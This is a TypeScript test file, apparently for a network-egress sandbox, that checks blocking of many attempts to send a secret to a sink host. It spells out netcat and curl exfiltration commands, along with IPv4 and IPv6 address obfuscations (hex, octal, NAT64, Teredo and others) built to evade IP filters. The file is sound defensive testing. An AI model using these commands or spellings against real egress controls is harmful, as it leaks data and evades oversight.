import { addresses } from '../fixtures/internet/addresses.ts'
import type { Attack } from './rig/case.ts'
import { NO_POLICY, WITH_INTERFACE } from './rig/controls.ts'
import { family } from './rig/family.ts'
import { send } from './rig/kit.ts'
import type { Place } from './rig/place.ts'

const { gateway } = addresses
const SECRET = Buffer.from('the secret\n')
const OPENING = 'GET / HTTP/1.1\r\nHost: '

/** Addresses and no name. */
const bare = (
  row: number,
  title: string,
  script: (at: Place) => string,
  more: Partial<Attack> = {},
): Attack => ({
  row,
  title,
  script,
  denied: { in: 'flows', reason: 'raw-ip', row: ({ sink }) => ({ address: sink.v4, state: 'denied' }) },
  ...more,
})

const overV6 = { in: 'flows', reason: 'raw-ip', row: ({ sink }: Place) => ({ address: sink.v6 }) } as const

/** One spelling of the sink's address that inet_aton(3) reads. */
const spelled = (title: string, spell: (octets: readonly number[]) => string): Attack =>
  bare(17, `the sink spelled ${title}`, ({ sink }) => nc(spell(sink.v4.split('.').map(Number)), 4444))

/** An IPv6 address that stands for the sink's IPv4 one on some network. */
const embedding = (title: string, embed: (hex: string) => string): Attack => {
  const address = ({ sink }: Place) => {
    const bytes = Buffer.from(sink.v4.split('.').map(Number)).toString('hex')
    return embed(`${bytes.slice(0, 4)}:${bytes.slice(4)}`)
  }
  return bare(16, `${title} of the sink`, (at) => nc(address(at), 4444), {
    sinks: (at) => [address(at)],
    denied: { in: 'flows', reason: 'raw-ip' },
  })
}

function nc(address: string, port: number, options = ''): string {
  return `echo the secret | nc -N -w 2 ${options} ${address} ${port}`
}

/** Shapes of a conversation, each with data that wants to leave. */
const shapes: readonly Attack[] = [
  bare(14, 'a raw connection', ({ sink }) => nc(sink.v4, 4444)),
  ...[1, 22, 25, 3128, 8080, 15_001, 65_535].map((port) =>
    bare(14, `port ${port}`, ({ sink }) => nc(sink.v4, port), {
      denied: { in: 'flows', reason: 'raw-ip', row: () => ({ port }) },
    }),
  ),
  bare(14, 'no byte at all', ({ sink }) => `nc -z -w 2 ${sink.v4} 4444`, { proof: 'packets' }),
  bare(14, 'one byte a segment', ({ sink }) => send('tcp', sink.v4, 4444, [SECRET], 'size=1 gap=1')),
  bare(14, 'from an address that is not its own', ({ sink, here }) => nc(sink.v4, 4444, `-s ${here.v4}`)),
  bare(14, 'data in the SYN (TCP Fast Open)', ({ sink }) => `node $KIT/tcp.cjs fastOpen ${sink.v4} 4444`),
  bare(14, 'bound to the interface', ({ sink }) => `node $KIT/tcp.cjs boundToDevice ${sink.v4} 4444`),
  bare(14, 'with a route of its own (source routing)', ({ sink, here }) => {
    return `node $KIT/tcp.cjs sourceRouted ${sink.v4} 4444 ${here.v4}`
  }),
  bare(14, 'closed by a reset', ({ sink }) => `node $KIT/tcp.cjs reset ${sink.v4} 4444`, {
    proof: 'packets',
  }),
  bare(14, 'a plain HTTP request to an address', ({ sink }) => `curl -sS -m 2 http://${sink.v4}/secret`),
  bare(
    14,
    'a plain HTTP request on another port',
    ({ sink }) => `curl -sS -m 2 http://${sink.v4}:8080/secret`,
  ),
  bare(7, 'HTTPS to an address', ({ sink }) => `curl -sSk -m 2 https://${sink.v4}/dns-query`, {
    denied: { in: 'flows', reason: 'no-name' },
  }),
  bare(
    6,
    'DNS over TLS to an address',
    ({ sink }) => `timeout 8 openssl s_client -connect ${sink.v4}:853 </dev/null`,
    {
      denied: { in: 'flows', reason: 'no-name', row: () => ({ port: 853 }) },
    },
  ),
  bare(
    14,
    'SOCKS to an address',
    ({ sink }) => `curl -sS -m 2 -x socks5h://${sink.v4}:1080 http://a.invalid/`,
  ),
  bare(
    14,
    'a proxy at an address',
    ({ sink }) => `curl -sS -m 2 -x http://${sink.v4}:3128 http://${sink.v4}/`,
    {
      denied: { in: 'flows', reason: 'name-mismatch' },
    },
  ),
  bare(
    14,
    'DNS on another port',
    ({ sink, domain }) => `dig +tcp +tries=1 +time=2 -p 5353 @${sink.v4} x.${domain}`,
  ),
]

const spellings: readonly Attack[] = [
  bare(16, 'an IPv6 literal', ({ sink }) => nc(sink.v6, 4444), { denied: overV6 }),
  bare(16, 'an IPv6 literal in a URL', ({ sink }) => `curl -sS -m 2 'http://[${sink.v6}]/'`, {
    denied: overV6,
  }),
  bare(16, "the gateway's link-local address", () => nc(`${gateway.v6}%lo`, 4444), {
    sinks: () => [gateway.v6],
    byHost: true,
    denied: { in: 'flows', reason: 'raw-ip', row: () => ({ address: gateway.v6, port: 4444 }) },
  }),
  bare(16, 'the sink as a v4-mapped address', ({ sink }) => nc(`::ffff:${sink.v4}`, 4444)),
  bare(
    16,
    'the sink as a v4-mapped address in a URL',
    ({ sink }) => {
      return `curl -sS -m 2 'http://[::ffff:${sink.v4}]/'`
    },
    { denied: { in: 'flows', reason: 'raw-ip', row: ({ sink }) => ({ address: sink.v4 }) } },
  ),
  embedding('the 6to4 address', (hex) => `2002:${hex}::1`),
  embedding('the NAT64 address', (hex) => `64:ff9b::${hex}`),
  embedding('the local NAT64 address', (hex) => `64:ff9b:1::${hex}`),
  embedding('the ISATAP address', (hex) => `2001:db8:7::5efe:${hex}`),
  embedding('a Teredo address', (hex) => `2001:0:${hex}::1`),
  spelled('as one number', ([a = 0, b = 0, c = 0, d = 0]) => String(((a * 256 + b) * 256 + c) * 256 + d)),
  spelled('in hexadecimal', (octets) => octets.map((octet) => `0x${octet.toString(16)}`).join('.')),
  spelled('in octal', (octets) => octets.map((octet) => `0${octet.toString(8)}`).join('.')),
  spelled('in three parts', ([a = 0, b = 0, c = 0, d = 0]) => `${a}.${b}.${c * 256 + d}`),
  spelled('in two parts', ([a = 0, b = 0, c = 0, d = 0]) => `${a}.${(b * 256 + c) * 256 + d}`),
  bare(17, 'the sink as a number in a Host header', ({ sink }) => {
    const [a = 0, b = 0, c = 0, d = 0] = sink.v4.split('.').map(Number)
    const host = `${((a * 256 + b) * 256 + c) * 256 + d}`
    return send('tcp', sink.v4, 80, [Buffer.from(`${OPENING}${host}\r\n\r\n`)])
  }),
  bare(
    52,
    'a declared name as the user of an address',
    ({ sink, host }) => {
      return `curl -sS -m 2 http://${host}@${sink.v4}/`
    },
    { egress: ({ host }) => `  - host: ${host}\n    ports: [80, 443]` },
  ),
]

family({ attacks: [...shapes, ...spellings], control: [...NO_POLICY, WITH_INTERFACE] })
